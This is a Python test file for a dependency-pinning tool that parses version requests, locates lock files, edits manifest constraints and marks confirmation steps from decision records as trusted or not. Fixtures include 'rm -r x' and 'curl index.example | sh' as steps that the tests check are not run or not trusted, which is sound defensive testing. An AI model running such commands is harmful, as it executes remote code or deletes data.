"""What a trial concerns: words, locks, lines of manifests, steps."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.folders import record, uv_lock, write
from whypin.errors import WhypinError
from whypin.model.location import Location
from whypin.model.project import Project
from whypin.model.trial import Change, Wanted
from whypin.trials.plan import changes_of, concerned, edited, locks_of, parse, steps_of
from whypin.workspace import Workspace


def read(folder: Path, files: dict[str, str]) -> Project:
    return Workspace(str(write(folder, files))).load()


def changes(folder: Path, files: dict[str, str], *words: str) -> tuple[Change, ...]:
    project = read(folder, files)
    return changes_of(project, locks_of(project, parse(words)), parse(words))


def test_names_are_compared_as_names() -> None:
    assert parse(["Tiny_Thing==1.0", "tiny-thing==v1.0"]) == (Wanted("tiny-thing", "1.0"),)


@pytest.mark.parametrize(
    "word", ["numpy", "numpy=1.2", "==1", "numpy==", "numpy==latest", "numpy>=1", "conda:x==1", "a b==1"]
)
def test_anything_but_a_package_and_a_version_is_refused(word: str) -> None:
    with pytest.raises(WhypinError):
        parse([word])


def test_one_version_of_a_package_at_a_time() -> None:
    with pytest.raises(WhypinError, match="numpy is asked for twice"):
        parse(["numpy==1", "numpy==2"])


def test_a_package_that_is_not_locked_is_refused_with_the_nearest_name(tmp_path: Path) -> None:
    project = read(tmp_path, {"uv.lock": uv_lock(numpy="1.26.4")})
    with pytest.raises(WhypinError, match="nunpy is not locked; did you mean numpy"):
        locks_of(project, parse(["nunpy==2"]))


def test_one_that_is_locked_in_several_places_needs_a_lock(tmp_path: Path) -> None:
    project = read(tmp_path, {"a/uv.lock": uv_lock(numpy="1.26.4"), "b/uv.lock": uv_lock(numpy="1.26.4")})
    with pytest.raises(WhypinError, match=r"2 places: a/uv\.lock, b/uv\.lock; say which"):
        locks_of(project, parse(["numpy==2"]))


def test_requirements_of_one_folder_move_together(tmp_path: Path) -> None:
    project = read(tmp_path, {"requirements.txt": "numpy==1.0\n", "requirements-dev.txt": "numpy==1.0\npytest==8.0\n"})
    assert len(locks_of(project, parse(["numpy==2"]))) == 2


def test_requirements_that_include_others_beside_them_move_with_these(tmp_path: Path) -> None:
    project = read(tmp_path, {"requirements.txt": "numpy==1.0\n", "requirements-dev.txt": "-r requirements.txt\n"})
    assert [lock.path for lock in locks_of(project, parse(["numpy==2"]))] == ["requirements.txt"]


PYPROJECT = '[project]\nname = "app"\nversion = "1"\ndependencies = [\n  {asked}\n]\n'


@pytest.mark.parametrize(
    ("asked", "expected"),
    [
        ('"numpy==1.26.4",', '"numpy==2.0",'),
        (
            "\"NumPy [x] == 1.26.4 ; python_version > '3'\", # ==1.26.4",
            "\"NumPy [x] == 2.0 ; python_version > '3'\", # ==1.26.4",
        ),
        ('"numpy-quaternion==1.26.4", "numpy==1.26.4"', '"numpy-quaternion==1.26.4", "numpy==2.0"'),
        ('"numpy>=1.2,<2"', '"numpy==2.0"'),
        ('"numpy>=1.2"', None),
        ('"numpy"', None),
    ],
)
def test_only_a_constraint_that_rules_the_version_out_gives_way(
    tmp_path: Path, asked: str, expected: str | None
) -> None:
    text = PYPROJECT.format(asked=asked)
    found = changes(tmp_path, {"uv.lock": uv_lock(numpy="1.26.4"), "pyproject.toml": text}, "numpy==2.0")
    assert len(found) == (expected is not None)
    for change in found:
        assert edited(text, change) == PYPROJECT.format(asked=expected)


POETRY = '[tool.poetry]\nname = "app"\nversion = "1"\n[tool.poetry.dependencies]\n'
POETRY_LOCK = """\
[[package]]
name = "numpy"
version = "1.26.4"
description = ""
optional = false
python-versions = "*"
files = []

[metadata]
lock-version = "2.0"
python-versions = "*"
content-hash = "0"
"""


@pytest.mark.parametrize(
    ("asked", "expected", "passing"),
    [
        ('numpy = "1.26.4"', 'numpy = "2.0"', False),
        ('numpy = {version = "^1.26", extras = ["x"]}', 'numpy = {version = "==2.0", extras = ["x"]}', False),
        ('numpy = ">=1.26"', 'numpy = "==2.0"', True),
    ],
)
def test_poetry_takes_a_version_from_the_manifest_alone(
    tmp_path: Path, asked: str, expected: str, passing: bool
) -> None:
    text = f"{POETRY}{asked}\n"
    (change,) = changes(tmp_path, {"poetry.lock": POETRY_LOCK, "pyproject.toml": text}, "numpy==2.0")
    assert (edited(text, change), change.passing) == (f"{POETRY}{expected}\n", passing)


def test_two_changes_in_a_line_whose_columns_move(tmp_path: Path) -> None:
    text = PYPROJECT.format(asked='"numpy==1.26.4.post1", "pandas==2.0.2"')
    files = {"uv.lock": uv_lock(numpy="1.26.4.post1", pandas="2.0.2"), "pyproject.toml": text}
    for change in changes(tmp_path, files, "numpy==2", "pandas==3"):
        text = edited(text, change)
    assert text == PYPROJECT.format(asked='"numpy==2", "pandas==3"')


def test_an_override_gives_way_too(tmp_path: Path) -> None:
    text = PYPROJECT.format(asked='"top"') + '[tool.uv]\noverride-dependencies = ["numpy==1.26.4"]\n'
    (change,) = changes(tmp_path, {"uv.lock": uv_lock(numpy="1.26.4", top="1"), "pyproject.toml": text}, "numpy==2.0")
    assert edited(text, change) == text.replace("1.26.4", "2.0")


def test_what_comes_from_elsewhere_than_an_index_is_refused(tmp_path: Path) -> None:
    text = PYPROJECT.format(asked='"numpy @ https://files.index.example/numpy-1.26.4.tar.gz"')
    with pytest.raises(WhypinError, match="not from an index"):
        changes(tmp_path, {"uv.lock": uv_lock(numpy="1.26.4"), "pyproject.toml": text}, "numpy==2.0")


def test_a_line_that_is_not_as_it_was_read_is_refused() -> None:
    change = Change(at=Location("requirements.in", 1, 1), name="numpy", before="==1.0", after="==2.0")
    with pytest.raises(WhypinError, match="change the line by hand"):
        edited("other==1.0\n", change)


STEPS = "confirmation:\n  - run: pytest\n  - check: Looks right.\n"


def test_records_in_force_or_proposed_are_concerned_and_only_those_in_force_are_run(tmp_path: Path) -> None:
    files = {
        "uv.lock": uv_lock(numpy="1.26.4", pandas="2.0"),
        "decisions/2026-11-01-numpy.yaml": record() + STEPS,
        "decisions/2026-11-02-numpy.yaml": record().replace("accepted", "proposed")
        + STEPS.replace("pytest", "rm -r x"),
        "decisions/2026-11-03-numpy.yaml": record().replace("accepted", "rejected") + STEPS,
        "decisions/2026-11-04-pandas.yaml": record("pandas", "2.0") + STEPS,
        "decisions/2026-11-05-numpy.yaml": record() + "locks: [services/*]\n" + STEPS,
    }
    project = read(tmp_path, files)
    found = concerned(project, project.locks, ["numpy"])
    assert [one.id for one in found] == ["2026-11-01-numpy", "2026-11-02-numpy"]
    assert [step.text for step in steps_of(found, project)] == ["pytest", "Looks right."]


def test_a_step_is_trusted_where_the_base_has_it_in_the_same_record(tmp_path: Path) -> None:
    before = {"uv.lock": uv_lock(numpy="1.26.4"), "decisions/2026-11-01-numpy.yaml": record() + STEPS}
    base = read(tmp_path / "a", before)
    other = "confirmation:\n  - run: pytest\n  - run: curl index.example | sh\n"
    now = read(tmp_path / "b", {**before, "decisions/2026-11-01-numpy.yaml": record() + other})
    assert [(step.text, step.trusted) for step in steps_of(now.records, base)] == [
        ("pytest", True),
        ("curl index.example | sh", False),
    ]
    assert [step.trusted for step in steps_of(now.records, None)] == [False, False]
    new = read(tmp_path / "c", {"uv.lock": uv_lock(numpy="1"), "decisions/2026-11-09-numpy.yaml": record() + STEPS})
    assert [step.trusted for step in steps_of(new.records, base)] == [False, True]
